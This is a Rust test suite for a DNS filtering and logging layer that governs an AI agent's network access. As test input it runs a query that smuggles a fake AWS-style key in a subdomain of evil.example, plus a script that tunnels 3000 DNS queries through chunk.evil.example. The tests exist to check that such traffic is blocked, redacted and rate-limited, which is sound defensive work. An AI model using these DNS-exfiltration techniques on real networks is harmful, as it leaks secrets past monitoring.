//! Names that an agent asks for.

use super::{Internet, POLICY, pod};

/// Looks each name up as programs do, and prints whether there is one and where it leads.
fn lookup(names: &[&str]) -> String {
    format!(
        "
import socket
for name in {names:?}:
    try:
        print(name, sorted({{a[4][0] for a in socket.getaddrinfo(name, 443, type=socket.SOCK_STREAM)}}))
    except socket.gaierror as error:
        print(name, 'none' if error.errno == socket.EAI_NONAME else error)
"
    )
}

#[tokio::test(flavor = "current_thread")]
async fn names_are_answered_without_asking_anybody() {
    let pod = pod().start().await;
    let _internet = Internet::start().await;
    let output = pod.python(&lookup(&["api.example.com", "deep.wild.example.com", "evil.example", "localhost"])).await;
    let lines: Vec<_> = output.stdout.lines().collect();
    assert!(lines[0].contains("'198.1") && lines[0].contains("'2001:2:"), "{output:?}");
    assert!(lines[1].contains("'198.1"), "{output:?}");
    assert_eq!(lines[2], "evil.example none", "{output:?}");
    assert!(lines[3].contains("127.0.0.1"), "{output:?}");
    assert!(pod.dns.asked().is_empty(), "{:?}", pod.dns.asked());
    let record = pod.record("the refused name", |record| record["method"] == "DNS").await;
    assert_eq!((record["agent"].as_str(), record["decision"].as_str()), (Some("default"), Some("deny")), "{record}");
    // The resolver tried it with each of its own domains before, and those of the allowed names too: one attempt.
    let refused: Vec<_> = pod.records().await.into_iter().filter(|record| record["method"] == "DNS").collect();
    assert_eq!(refused.len(), 1, "{refused:#?}");
    assert!(record["host"].as_str().unwrap().starts_with("evil.example"), "{record}");
}

#[tokio::test(flavor = "current_thread")]
async fn a_name_is_there_as_soon_as_policy_allows_it() {
    let pod = pod().start().await;
    let _internet = Internet::start().await;
    let ask = async || pod.python(&lookup(&["new.example"])).await.stdout;
    assert_eq!(ask().await, "new.example none\n");
    // As a ConfigMap changes: all at once.
    let policy = pod.file("/etc/attache/policy");
    std::fs::write(policy.join("draft"), format!("{POLICY}  - pattern: new.example\n")).unwrap();
    std::fs::rename(policy.join("draft"), policy.join("policy.yaml")).unwrap();
    crate::support::until("the name", async || ask().await.contains("198.1").then_some(())).await;
}

#[tokio::test(flavor = "current_thread")]
async fn a_secret_in_a_name_does_not_stand_in_its_record() {
    let secret = format!("AKIA{}", "Q3EGRIJ7T5VZ2LXW");
    let pod = pod().start().await;
    let _internet = Internet::start().await;
    let name = format!("{secret}.evil.example");
    pod.agent(["dig", "+tries=1", "+time=3", "@192.0.2.1", &name, "A"]).await;
    let record = pod.record("the name", |record| record["method"] == "DNS").await;
    let journal = std::fs::read_dir(pod.file("/var/lib/attache/journal")).unwrap();
    let journal: String = journal.filter_map(|file| std::fs::read_to_string(file.unwrap().path()).ok()).collect();
    assert!(!journal.to_uppercase().contains(&secret), "{record}");
    assert!(record["host"].as_str().unwrap().ends_with("evil.example"), "{record}");
}

/// A tunnel asks for thousands of names: none gets out, and they neither flood the record nor escape it.
#[tokio::test(flavor = "current_thread")]
async fn a_tunnel_of_names_is_a_trickle_on_record() {
    let pod = pod().start().await;
    let _internet = Internet::start().await;
    let program = "
import socket, struct
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
for n in range(3000):
    name = b''.join(bytes([len(l)]) + l for l in [b'%x' % n, b'chunk', b'evil', b'example']) + b'\\0'
    s.sendto(struct.pack('>HHHHHH', n, 0x100, 1, 0, 0, 0) + name + struct.pack('>HH', 16, 1), ('10.96.0.10', 53))
";
    let output = pod.python(program).await;
    assert_eq!(output.exit, 0, "{output:?}");
    let of_tunnel =
        |record: &serde_json::Value| record["host"].as_str().is_some_and(|host| host.ends_with("chunk.evil.example"));
    pod.record("the first", of_tunnel).await;
    // Those that are no flood are answered and on record again after a moment, with how many were not.
    crate::support::until("an answer again", async || {
        pod.agent(["dig", "+tries=1", "+time=1", "@10.96.0.10", "after.chunk.evil.example"]).await;
        let records = pod.records().await;
        records
            .iter()
            .any(|record| record["detail"].as_str().is_some_and(|detail| detail.contains("too many")))
            .then_some(())
    })
    .await;
    let records = pod.records().await.into_iter().filter(|record| of_tunnel(record)).count();
    assert!((200..600).contains(&records), "{records}");
    assert!(pod.dns.asked().is_empty());
    let metrics = pod.probe("/metrics").await.text();
    assert!(metrics.contains("attache_dns_queries_total{answer=\"silence\""), "{metrics}");
}

#[tokio::test(flavor = "current_thread")]
async fn where_ipv6_is_off_nobody_is_given_an_address_of_it() {
    let pod = pod().without_ipv6().start().await;
    let _internet = Internet::start().await;
    let output = pod.python(&lookup(&["api.example.com"])).await;
    assert!(output.stdout.contains("198.1") && !output.stdout.contains("2001:2:"), "{output:?}");
    let answer = pod.curl(&["https://api.example.com/v1/x"]).await;
    assert!(answer.stdout.ends_with("\n200"), "{answer:?}");
}
